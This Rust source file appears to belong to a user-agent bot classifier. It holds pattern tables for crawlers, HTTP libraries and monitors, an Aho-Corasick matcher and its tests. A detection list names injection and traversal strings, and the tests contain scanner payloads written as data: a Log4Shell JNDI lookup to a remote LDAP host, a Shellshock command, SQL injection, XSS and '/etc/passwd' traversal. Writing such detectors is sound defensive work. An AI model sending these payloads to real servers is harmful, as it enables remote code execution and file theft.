//! The literal tables of automation's words and the header's structural signs, and the one
//! automaton that finds them, the client catalogue's names and the version markers in a single
//! pass over the header.

use std::sync::OnceLock;

use super::clients::{AI_AGENTS, BROWSERS, CLIENTS, COMPATIBLE_BROWSERS, DEVICES, PREVIEWS};
use super::platform::MARKERS;

// Each pattern is matched case-insensitively. Markers around the text say where it must stand:
// `|` first: a word starts there (the byte before is not a letter or digit); `|` last: a word ends
// there (the byte after is not a letter or digit, or is a plural `s` that ends the word); `@` first:
// only inside a product name (before its `/`, or a bare word outside comments), so `Ruby` the phone
// in a comment is not Ruby the language; `#` last: followed by `/` and a digit (`java/1.8`, not
// `Java/ASVM`); `^` first: only at the start of the header; `~` first: a word apps use in their
// names too (`CamScanner`), not a sign inside an Android app's web view (`; wv)`).

/// Self-declared crawlers, monitors, headless and automated browsers: `Certain`, reason `bot`.
#[rustfmt::skip]
const CRAWLERS: &[&str] = &[
    "bot|", "crawler|", "crawl|", "spider|", "slurp|", "scraper|", "archiver|", "|ia_archiver",
    "indexer|", "fetcher|", "-fetch|", "feedparser|", "~validator|", "~checker|", "~scanner|",
    "~analyzer|", "~monitor|", "monitoring|", "~inspector|", "~optimizer|", "resolver|", "~audit|",
    "~auditor|", "~scan|", "scanning|", "scraping|", "|batch|", "~verify|", "~watcher|", "watchdog|",
    "checkup|", "httpclient|", "|http_request", "|monitorss", "|page-preview", "|feedburner",
    "|watchmouse", "|zotero", "|google wireless", "|googleimageproxy", "|proximic|", "-google|",
    "|google-", "|googleother", "|google favicon", "googleweblight", "|google page speed",
    "|pagespeed|", "|chrome-lighthouse", "|lighthouse|", "|ahrefs", "|semrush", "|mj12",
    "|dataprovider", "|gtmetrix", "|pingdom", "uptime|", "|statuscake", "|site24x7", "|newrelic",
    "|datadog", "|zgrab", "|masscan", "|nmap|", "|nikto", "|sqlmap", "|nuclei|", "|cloudflare",
    "|cf-network-", "|amazon-route53", "|amazoncloudfront", "|catchpoint", "|dynatrace",
    "|ruxitsynthetic", "synthetic|", "|splunk", "|rigor|", "|thousandeyes", "|checkly", "|headless",
    "|phantomjs", "|slimerjs", "|selenium", "|webdriver", "|puppeteer", "|playwright", "|htmlunit",
    "|cypress/#", "|ptst|", "|appinsights", "|dareboost", "|outbrain", "|datanyze", "|newsai",
    "|attracta", "|collapsify", "|hardenize", "|netcraft", "|silktide", "|sindup", "|turingos",
    "|webcapture", "|dlc/#", "|feeder", "|foregenix", "|hotjar", "|linktiger", "|marketgoo",
    "|miniature.io", "|newsnow", "|openvas", "|playstore-google", "|readable/#", "|retroliste",
    "|securityheaders", "|splash|", "|testlocally", "|abuse.", " ylt ", "|upday", "|watchtowr",
    "productfinder|", "|nutch", "|heritrix", "|httrack", "offline explorer", "|webcopier",
    "|webzip", "indy library", "|go 1.1 package http", "|got (", "|dart:io", "rss reader",
    "rssreader", "|feedly", "|inoreader", "|newsblur", "|tiny tiny rss", "|magpierss", "|simplepie",
    "|rome client", "|universalfeedparser", "|bingpreview", "web preview", "|linkcheck",
    "link sleuth", "parser|", "|http_get", "|check_http", "-agent|", "|windows-rss-platform",
    "|applesyndication", "|netnewswire",
    // Feed readers polling feeds (a person reads later, in their browser).
    "rss|", "|rssowl", "|liferea", "|feeddemon", "|feeddler", "|akregator", "|readkit",
    "|reeder/", "|newsboat", "|newsbeuter",
    // Synthetic monitoring and page-speed products.
    "|gomezagent", "|synthetics", "|dejaclick", "|iplabel", "|uptimia", "|speedcurve",
    "|dmbrowser", "|yunjiankong", "|onetrust", "|functionize", "measurement|",
    // Security scanners, compliance and ad-verification crawlers, image and mail proxies.
    "|assetnote", "|detectify", "|burpcollaborator", "|clamav", "|reaver|", "|xtate/", "|jorgee",
    "|brandverity", "|tineye", "|whatsmyip", "|whatcms", "|cmslookup", "|mixnode",
    "|morningscore", "|sparkler/", "|archivebox", "|thumbor/", "imageproxy|", "emailproxy|",
    "|google search console", "googleadsenseinfeed", "semanticsclassifier", "|scope3/",
    "|daumoa", "firefox mutant", "|firecrawl",
    // Search crawlers of old portals, transcoding proxies that fetch a page to rewrite it for a
    // phone, collectors, Apple's daemon that fetches a site's app-association file.
    "|teoma", "transcoder|", "~collector|", "^swcd|", "|rssbandit",
    // Synthetic monitors dressed as a browser: Keynote's `KTXN`, SmartBear's AlertSite
    // (WebPageTest's `PTST`, with `/` or, in its MSIE form, a space, is above).
    "|ktxn|", "|alertsite",
    // Render and screenshot tools: QtWebKit writes the program's name where a browser's stands.
    "|wkhtmltopdf", "|wkhtmltoimage", "|cutycapt", "|weasyprint|", "|printfriendly",
    // Site checkers that sign with their bare domain.
    "|siteimprove", "|uptimedoctor",
    // Load-testing tools.
    "|siege/#", "|k6/#", "|jmeter", "|gatling", "|apachebench", "|loadimpact", "|blazemeter",
    "|loader.io", "|neoload", "|httperf", "|tsung|",
    // Old-shaped fetchers of search portals: Yandex's robots of the `Win16` form, Yahoo's
    // shopping and blog crawlers in an MSIE form.
    "^yandex/1.01", "|yahooseeker", "|yahoo-blogs",
    // AI companies' fetchers whose names hold no crawler word.
    "|anthropic-ai", "|cohere-ai", "|claude-web",
];

/// HTTP libraries and command-line clients, by product name: `Certain`, reason `bot`.
#[rustfmt::skip]
const LIBRARIES: &[&str] = &[
    "@curl|", "@|wget|", "@|libwww-perl", "@|lwp-", "@|python", "@|aiohttp", "@|httpx",
    "@requests|", "@|urllib", "|java/#", "@|jakarta", "@|apache-httpclient", "@|go-http-client",
    "@|node-fetch", "@|node|", "@|undici", "@|axios", "@|superagent", "@|guzzlehttp", "@|php|",
    "@|ruby|", "@|perl|", "@|winhttp", "@http-client|", "@|httpunit", "@|restsharp",
    "@|postmanruntime", "@|insomnia", "@powershell|", "@|dart|", "@|reqwest", "@|hyper|", "@|rust",
    "@|mechanize", "@|colly", "@|ning|", "@|synapse|", "@|grequests", "@|cpp-httplib", "@|wininet",
    "@|scrapy", "@|httpie", "@|faraday", "@|typhoeus", "@|aws-sdk", "@|boto", "@|ktor", "@|jersey",
    "@|deno|", "@|lua-resty", "@|zend_http", "@|symfony", "@|wordpress|", "@|okhttp-", "@|libfetch",
    "@|fasthttp", "@|reactor-netty", "@|vert.x", "@|restclient", "@|httpful", "@|bun|", "@|jetty|",
    "@|ahc|", "@|newspaper|",
];

/// Injection and path-traversal payloads scanners put in the header: `Certain`, reason `bot`.
#[rustfmt::skip]
const PAYLOADS: &[&str] = &[
    "${", "<script", "' or ", "\" or ", " or 1=1", "union select", "union all select", "../",
    "..\\", "/etc/passwd", "<?php", "() {", "javascript:", "onerror=", "onload=", "sleep(",
    "waitfor delay", "xp_cmdshell", "%00", "<img", "<svg", "alert(", "/bin/sh", "cmd.exe", "eval(",
];

/// Words that name an OS: a header without the browser form that names one is a program on
/// that OS, or an app nobody knows: a `Weak` sign, not more.
#[rustfmt::skip]
const SYSTEMS: &[&str] = &[
    "|android", "|iphone", "|ipad", "|ipod", "|ios|", "|windows", "|linux", "|macintosh", "|mac os",
    "|freebsd", "|netbsd", "|openbsd", "|sunos", "|cros|", "|x11|", "|morphos", "|amigaos",
    "|risc os", "|win95|", "|win98|", "|winnt|", "|win2000|", "|winxp|", "|win7|", "|win8|",
    "|win10|", "|win11|", "|win32|", "|win64|", "|haiku|", "|beos|", "|syllable|", "|palmos",
    "|inferno|", "|serenityos",
];

/// Top-level domains: a domain name in the header (`acme.com`, not `.com.samsung` in a build).
#[rustfmt::skip]
const DOMAINS: &[&str] = &[
    ".com|", ".net|", ".org|", ".io|", ".ai|", ".info|", ".co|", ".app|", ".dev|", ".ru|", ".de|",
    ".ua|", ".uk|", ".fr|", ".jp|", ".cn|", ".nu|", ".eu|", ".me|",
];

/// The prefix every browser writes, and the dress many programs put on: by itself it makes no
/// browser.
const MOZILLA: &[&str] = &["mozilla/"];

/// Words that contain a pattern above but are people's devices: a pattern inside one is ignored.
#[rustfmt::skip]
const EXCEPTIONS: &[&str] = &[
    "|cubot", "|robot_ios", "|user-agent",
];

/// Structural signs: `Likely` bot.
#[rustfmt::skip]
const URLS: &[&str] = &[
    "|http://", "|https://", "|www.",
];
#[rustfmt::skip]
const COMPATIBLE: &[&str] = &[
    "compatible;", "(compatible",
];
/// An Android app's embedded web view.
const WEB_VIEW: &[&str] = &["; wv)"];
/// `compatible;` inside the engine's comment (`(KHTML, like Gecko; compatible; Acme/1.0)`): a
/// fetcher dressed as a browser; no browser writes it there.
const ENGINE_COMPATIBLE: &[&str] = &["like gecko; compatible;"];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Class {
    Crawler,
    Library,
    Ai,
    Payload,
    Preview,
    Client(&'static str),
    Device,
    System,
    Domain,
    Browser,
    Mozilla,
    CompatibleBrowser,
    Exception,
    Url,
    Compatible,
    WebView,
    EngineCompatible,
    Mark(usize),
}

pub(super) const LEFT: u8 = 1;
pub(super) const RIGHT: u8 = 2;
pub(super) const PRODUCT: u8 = 4;
pub(super) const VERSION: u8 = 8;
pub(super) const START: u8 = 16;
pub(super) const APP_WORD: u8 = 32;

#[derive(Debug, Clone, Copy)]
pub(super) struct Pattern {
    pub(super) class: Class,
    pub(super) flags: u8,
    pub(super) len: u16,
}

/// Every pattern in one automaton, so a header is scanned once: an Aho-Corasick DFA, built here
/// from the patterns' trie. Its transitions are one flat table the scan indexes inline: with the
/// size-optimised build, a generic automaton's lookup stays a call per byte, which cost more than
/// the lookup itself.
pub(super) struct Matcher {
    /// Each byte's column in the table: an ASCII letter's cases share one, and so do all bytes no
    /// pattern holds.
    columns: [u8; 256],
    width: usize,
    /// `states × width` entries: the next state's row (its number × `width`), with [`ENDS`] set
    /// when that state ends a pattern.
    next: Box<[u32]>,
    /// State `s` ends the patterns `ended[ends_at[s]..ends_at[s + 1]]`, its own and then those
    /// of its suffixes.
    ends_at: Box<[u32]>,
    ended: Box<[u16]>,
    patterns: Vec<Pattern>,
}

/// The mark of a transition into a state that ends a pattern.
const ENDS: u32 = 1 << 31;

impl Matcher {
    fn new(texts: &[&str], patterns: Vec<Pattern>) -> Matcher {
        let mut columns = [0u8; 256];
        let mut width = 1;
        for &b in texts.iter().flat_map(|t| t.as_bytes()) {
            let b = b.to_ascii_lowercase();
            if columns[usize::from(b)] == 0 {
                columns[usize::from(b)] = width as u8;
                columns[usize::from(b.to_ascii_uppercase())] = width as u8;
                width += 1;
            }
        }
        assert!(
            width <= 256,
            "the user-agent patterns use too many distinct bytes"
        );
        // The trie: row `s` holds state `s`'s children; 0 (the root, nobody's child) is none.
        let mut next: Vec<u32> = vec![0; width];
        let mut own: Vec<Vec<u16>> = vec![Vec::new()];
        for (p, text) in texts.iter().enumerate() {
            let mut state = 0;
            for &b in text.as_bytes() {
                let at = state * width + usize::from(columns[usize::from(b)]);
                if next[at] == 0 {
                    next[at] = own.len() as u32;
                    own.push(Vec::new());
                    next.extend(std::iter::repeat_n(0, width));
                }
                state = next[at] as usize;
            }
            own[state].push(p as u16);
        }
        // Breadth first, each state's missing transitions become its longest suffix's (already
        // complete, being shallower), and it ends what that suffix ends too.
        let states = own.len();
        let mut suffix = vec![0usize; states];
        let mut ends: Vec<Vec<u16>> = vec![Vec::new(); states];
        let mut queue = std::collections::VecDeque::from([0usize]);
        while let Some(s) = queue.pop_front() {
            let mut mine = std::mem::take(&mut own[s]);
            mine.extend_from_slice(&ends[suffix[s]]);
            ends[s] = mine;
            for c in 0..width {
                let child = next[s * width + c] as usize;
                let via_suffix = next[suffix[s] * width + c];
                if child == 0 {
                    next[s * width + c] = if s == 0 { 0 } else { via_suffix };
                } else {
                    suffix[child] = if s == 0 { 0 } else { via_suffix as usize };
                    queue.push_back(child);
                }
            }
        }
        for t in next.iter_mut() {
            let state = *t as usize;
            *t = (state * width) as u32 | if ends[state].is_empty() { 0 } else { ENDS };
        }
        let mut ends_at = Vec::with_capacity(states + 1);
        let mut ended = Vec::new();
        for e in &ends {
            ends_at.push(ended.len() as u32);
            ended.extend_from_slice(e);
        }
        ends_at.push(ended.len() as u32);
        Matcher {
            columns,
            width,
            next: next.into(),
            ends_at: ends_at.into(),
            ended: ended.into(),
            patterns,
        }
    }

    /// Calls `each(pattern, start, end)` for every pattern at every place, in order of the end.
    pub(super) fn each_hit(&self, haystack: &str, mut each: impl FnMut(Pattern, usize, usize)) {
        let mut row = 0usize;
        for (i, &byte) in haystack.as_bytes().iter().enumerate() {
            let t = self.next[row + usize::from(self.columns[usize::from(byte)])];
            row = (t & !ENDS) as usize;
            if t & ENDS != 0 {
                let state = row / self.width;
                let (from, to) = (self.ends_at[state], self.ends_at[state + 1]);
                for &p in &self.ended[from as usize..to as usize] {
                    let pattern = self.patterns[usize::from(p)];
                    each(pattern, i + 1 - usize::from(pattern.len), i + 1);
                }
            }
        }
    }
}

/// A marked pattern's text and placement flags.
fn unmark(marked: &'static str) -> (&'static str, u8) {
    let mut text = marked;
    let mut flags = 0;
    if let Some(t) = text.strip_prefix('~') {
        flags |= APP_WORD;
        text = t;
    }
    if let Some(t) = text.strip_prefix('^') {
        flags |= START;
        text = t;
    }
    if let Some(t) = text.strip_prefix('@') {
        flags |= PRODUCT;
        text = t;
    }
    if let Some(t) = text.strip_prefix('|') {
        flags |= LEFT;
        text = t;
    }
    if let Some(t) = text.strip_suffix("/#") {
        flags |= VERSION;
        text = t;
    }
    if let Some(t) = text.strip_suffix('|') {
        flags |= RIGHT;
        text = t;
    }
    (text, flags)
}

pub(super) fn matcher() -> &'static Matcher {
    static M: OnceLock<Matcher> = OnceLock::new();
    M.get_or_init(|| {
        let (texts, patterns) = pattern_set();
        Matcher::new(&texts, patterns)
    })
}

/// Every pattern's text, and its class and placement.
pub(super) fn pattern_set() -> (Vec<&'static str>, Vec<Pattern>) {
    {
        let groups: [(Class, &[&'static str]); 16] = [
            (Class::Crawler, CRAWLERS),
            (Class::Library, LIBRARIES),
            (Class::Ai, AI_AGENTS),
            (Class::Payload, PAYLOADS),
            (Class::Preview, PREVIEWS),
            (Class::Device, DEVICES),
            (Class::System, SYSTEMS),
            (Class::Domain, DOMAINS),
            (Class::Browser, BROWSERS),
            (Class::Mozilla, MOZILLA),
            (Class::CompatibleBrowser, COMPATIBLE_BROWSERS),
            (Class::Exception, EXCEPTIONS),
            (Class::Url, URLS),
            (Class::Compatible, COMPATIBLE),
            (Class::WebView, WEB_VIEW),
            (Class::EngineCompatible, ENGINE_COMPATIBLE),
        ];
        let mut texts = Vec::new();
        let mut patterns = Vec::new();
        let mut add = |marked: &'static str, class: Class| {
            let (text, flags) = unmark(marked);
            texts.push(text);
            patterns.push(Pattern {
                class,
                flags,
                len: text.len() as u16,
            });
        };
        for (class, group) in groups {
            for marked in group {
                add(marked, class);
            }
        }
        for (marked, name) in CLIENTS {
            add(marked, Class::Client(name));
        }
        for (i, marker) in MARKERS.iter().enumerate() {
            add(marker, Class::Mark(i));
        }
        (texts, patterns)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ua::samples::{grade, signal, ANDROID, IPHONE, WINDOWS};
    use crate::ua::Grade;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    #[test]
    fn monitors_and_google_special_agents_are_certain() {
        for ua in [
            "Mozilla/5.0 (Windows NT 6.1; Win64; x64; +http://www.catchpoint.com) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 CatchPoint",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Cloudflare-Observatory",
            "Cloudflare-Diagnostics/1.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 DynatraceSynthetic/1.0",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Splunk Synthetics",
            "Mozilla/5.0 (Linux; Android 11; Pixel 2; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.193 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 7.0; Moto G (4)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
            "Mozilla/5.0 (Linux; Android 4.2.1; en-us; Nexus 5 Build/JOP40D) AppleWebKit/535.19 (KHTML, like Gecko; googleweblight) Chrome/38.0.1025.166 Mobile Safari/535.19",
            "Mediapartners-Google",
            "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        ] {
            assert_eq!(grade(ua), Some(Grade::Certain), "{ua}");
        }
    }

    #[test]
    fn scanner_payloads_are_certain() {
        for ua in [
            "${jndi:ldap://198.51.100.7:1389/a}",
            "Mozilla/5.0 <script>alert(1)</script>",
            "' OR 1=1 --",
            "../../../../etc/passwd",
            "() { :; }; /bin/bash -c 'id'",
        ] {
            let s = signal(ua);
            assert_eq!(s.as_ref().map(|s| s.0), Some(Grade::Certain), "{ua}");
            assert!(s.is_some_and(|s| s.2.starts_with("payload ")), "{ua}");
        }
    }

    #[test]
    fn feed_readers_monitors_and_scanners_are_certain() {
        for ua in [
            "FreshRSS/1.23.1 (Linux; https://freshrss.org)",
            "Newsboat/2.33 (Linux x86_64)",
            "Liferea/1.15.4 (Linux; en_US.UTF-8; https://lzone.de/liferea/)",
            "Reeder/5.2 CFNetwork/1474 Darwin/23.0.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko GomezAgent 3.0) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0 DejaClick/3.1",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 PTST/SpeedCurve/240101.101010",
            "Mozilla/5.0 (compatible; Detectify; site-check)",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 ClamAV/1.2.1",
            "RssBandit/2.0.0.0 (WinNT 10.0.19045.0)",
            "Mozilla/5.0 (compatible; Ask Jeeves/Teoma; Windows NT 6.1)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Baidu Transcoder) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "LinkCollector/1.3 (Windows NT 10.0)",
            "swcd (unknown version) CFNetwork/1494.0.7 Darwin/23.4.0",
            // A monitor's name where an Android phone writes its model.
            "Mozilla/5.0 (Linux; Android 10; Catchpoint) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
        ] {
            assert_eq!(grade(ua), Some(Grade::Certain), "{ua}");
        }
    }

    #[test]
    fn dressed_monitors_render_tools_load_testers_old_fetchers_and_ai_fetchers_are_certain() {
        // Issue 27's bot categories, one table each (sources in tests/corpus/categories.tsv).
        let page_speed = [
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; PTST 2.357)",
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; KTXN)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 AlertSite",
        ];
        let render = [
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltopdf Safari/534.34",
            "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltoimage Safari/534.34",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) CutyCapt Safari/534.34",
            "Mozilla/5.0 (X11; Linux i586; rv:31.0) Gecko/20100101 Firefox/31.0 PrintFriendly.com",
        ];
        let load_test = [
            "Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/4.1.6",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 JMeter",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Gatling",
        ];
        let old_search = [
            "Yandex/1.01.001 (compatible; Win16; I)",
            "YahooSeeker/1.2 (compatible; Mozilla 4.0; MSIE 5.5; yahooseeker at yahoo-inc dot com ; http://help.yahoo.com/help/us/shop/merchant/)",
            "Yahoo-Blogs/v3.9 (compatible; Mozilla 4.0; MSIE 5.5; http://help.yahoo.com/help/us/ysearch/crawling/crawling-02.html )",
            "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.0) Match by Siteimprove.com",
        ];
        let ai = [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 anthropic-ai",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 cohere-ai",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Claude-Web/1.0",
        ];
        for ua in [&page_speed[..], &render, &load_test, &old_search, &ai].concat() {
            assert_eq!(grade(ua), Some(Grade::Certain), "{ua}");
        }
        // A Yandex header of today's form is its browser, not the old robot.
        assert_eq!(grade("Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 YaBrowser/24.1.0 Yandex/1.01 Mobile Safari/537.36"), None);
    }

    type Hits = Vec<(usize, usize, String)>;

    /// Every pattern at every place, as `(start, end, pattern)`, by the automaton built here and by
    /// the aho-corasick crate's (overlapping, standard semantics, ASCII case-insensitive).
    fn hits_both_ways(ua: &str) -> (Hits, Hits) {
        let (texts, patterns) = pattern_set();
        let reference = aho_corasick::AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&texts)
            .unwrap();
        let mut theirs: Vec<_> = reference
            .find_overlapping_iter(ua)
            .map(|m| (m.start(), m.end(), format!("{:?}", patterns[m.pattern()])))
            .collect();
        let mut ours = Vec::new();
        matcher().each_hit(ua, |p, start, end| {
            ours.push((start, end, format!("{p:?}")));
        });
        ours.sort();
        theirs.sort();
        (ours, theirs)
    }

    #[test]
    fn the_automaton_finds_every_pattern_a_reference_one_finds() {
        for ua in [
            IPHONE,
            ANDROID,
            WINDOWS,
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "MOZILLA/5.0 (LINUX; ANDROID 14; SM-S918B; WV) APPLEWEBKIT/537.36 INSTAGRAM 330.0",
            "python-requests/2.31.0 ${jndi:ldap://x} ../../etc/passwd crawlercrawler botbot",
            "Mozilla/5.0 (iPhone) [FBAN/FBIOS;FBAV/450.0.0.38.108] Ünïcødé façade Slackbot",
        ] {
            let (ours, theirs) = hits_both_ways(ua);
            assert!(!ours.is_empty(), "{ua}");
            assert_eq!(ours, theirs, "{ua}");
        }
    }

    #[cfg(not(target_arch = "wasm32"))]
    mod properties {
        use super::hits_both_ways;
        use proptest::prelude::*;

        proptest! {
            #[test]
            fn the_automaton_agrees_with_a_reference_one(
                ua in "([ -~]{0,6}(bot|crawl|mozilla/|android|compatible;|http://|fban/|\\.com|\\$\\{|\\.\\./|like gecko; compatible;)){0,8}[ -~]{0,6}"
            ) {
                let (ours, theirs) = hits_both_ways(&ua);
                prop_assert_eq!(ours, theirs);
            }
        }
    }
}
